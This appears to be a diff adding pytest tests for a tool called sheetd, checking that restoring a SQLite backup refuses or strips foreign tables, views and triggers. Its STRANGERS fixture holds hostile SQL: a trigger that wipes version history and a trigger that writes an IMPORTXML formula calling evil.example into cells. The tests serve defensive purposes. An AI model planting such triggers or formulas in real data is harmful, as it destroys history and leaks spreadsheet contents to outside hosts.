@@ -91,3 +91,103 @@ def test_a_backup_of_a_newer_sheetd_is_refused(hunt: Loop, sheetd: Sheetd, tmp_p
     assert ran.status == 6
     assert "newer sheetd" in ran.err
     assert sheetd("sync", "now").status == 0, "the mirror is as it was"
+
+
+STRANGERS = """
+CREATE TRIGGER loot AFTER UPDATE ON rows BEGIN DELETE FROM row_versions; END;
+CREATE TRIGGER spoil AFTER INSERT ON runs BEGIN
+  UPDATE rows SET owned = replace(owned, 'PYTHON', '=IMPORTXML("http://evil.example")');
+END;
+CREATE TABLE loot (x);
+CREATE VIEW peek AS SELECT * FROM rows;
+CREATE TRIGGER instead INSTEAD OF UPDATE ON peek BEGIN SELECT 1; END;
+CREATE VIRTUAL TABLE words USING fts5(x);
+CREATE UNIQUE INDEX one_run ON runs (status);
+"""
+
+
+def names_in(path: Path) -> set[str]:
+    with closing(sqlite3.connect(path)) as database:
+        return {row[0] for row in database.execute("SELECT name FROM sqlite_schema")}
+
+
+def test_a_backup_gives_rows_and_no_code(hunt: Loop, sheetd: Sheetd, tmp_path: Path) -> None:
+    sheetd("sync", "now")
+    sheetd("db", "backup", "copy.db")
+    before, history = hunt.rows(), sheetd("db", "export", "--format", "json").out
+    clean = names_in(tmp_path / "sheetd.db")
+    with closing(sqlite3.connect(tmp_path / "copy.db")) as database:
+        database.execute("DELETE FROM runs WHERE id > 1")
+        database.executescript(STRANGERS)
+    ran = sheetd("db", "restore", "copy.db")
+    assert (ran.status, "Left out" in ran.out) == (0, False), ran.err
+    assert sheetd("sync", "now").status == 0
+    assert names_in(tmp_path / "sheetd.db") == clean
+    assert hunt.rows() == before
+    assert sheetd("db", "export", "--format", "json").out == history
+    assert sheetd("db", "check").status == 0
+    assert not list(tmp_path.glob("*.restoring*"))
+
+
+@pytest.mark.parametrize(
+    ("change", "status", "said"),
+    [
+        (
+            "ALTER TABLE runs RENAME TO r; CREATE VIEW runs AS SELECT * FROM r;",
+            2,
+            "lacks the table runs",
+        ),
+        ("DROP TABLE hand_edits;", 2, "lacks the column hand_edits."),
+        ("ALTER TABLE rows DROP COLUMN owned;", 2, "lacks the column rows.owned"),
+        ("INSERT INTO alembic_version VALUES ('0001');", 2, "no mirror of sheetd"),
+        ("DROP TABLE rows; CREATE VIEW rows AS SELECT 1;", 2, "no mirror of sheetd"),
+    ],
+)
+def test_a_backup_whose_tables_are_others_is_refused(
+    hunt: Loop, sheetd: Sheetd, tmp_path: Path, change: str, status: int, said: str
+) -> None:
+    sheetd("sync", "now")
+    sheetd("db", "backup", "copy.db")
+    with closing(sqlite3.connect(tmp_path / "copy.db")) as database:
+        database.executescript(
+            f"PRAGMA foreign_keys = OFF; PRAGMA legacy_alter_table = ON; {change}"
+        )
+    ran = sheetd("db", "restore", "copy.db")
+    assert (ran.status, said in ran.err) == (status, True), ran.err
+    assert len(sheetd("rows", "--json").json()) == 3, "the mirror is as it was"
+
+
+def test_what_makes_no_sense_in_a_backup_is_left_out_and_told(
+    hunt: Loop, sheetd: Sheetd, tmp_path: Path
+) -> None:
+    sheetd("sync", "now")
+    sheetd("db", "backup", "copy.db")
+    with closing(sqlite3.connect(tmp_path / "copy.db")) as database:
+        database.execute("UPDATE results SET tool_version = 'many' WHERE id = 1")
+        database.execute("UPDATE row_versions SET cells = x'00ff' WHERE rowid = 1")
+        database.commit()
+    ran = sheetd("db", "restore", "copy.db")
+    assert ran.status == 0
+    assert "Left out: 1 entries of results" in ran.out
+    assert "Left out: 1 entries of row_versions" in ran.out
+    assert sheetd("sync", "now").status == 0
+    hunt.assert_right()
+    assert sheetd("db", "check").status == 0
+
+
+def test_check_names_triggers_and_repair_removes_them(
+    hunt: Loop, sheetd: Sheetd, tmp_path: Path
+) -> None:
+    sheetd("sync", "now")
+    versions = "SELECT count(*) FROM row_versions"
+    with closing(sqlite3.connect(tmp_path / "sheetd.db")) as database:
+        database.executescript(STRANGERS)
+        before = database.execute(versions).fetchone()
+    ran = sheetd("db", "check")
+    assert ran.status == 6
+    for name in ("loot", "spoil", "instead"):
+        assert f"The trigger {name} is not sheetd's" in ran.out
+    ran = sheetd("db", "check", "--repair")
+    assert (ran.status, "The trigger loot was removed" in ran.out) == (0, True)
+    with closing(sqlite3.connect(tmp_path / "sheetd.db")) as database:
+        assert database.execute(versions).fetchone() == before
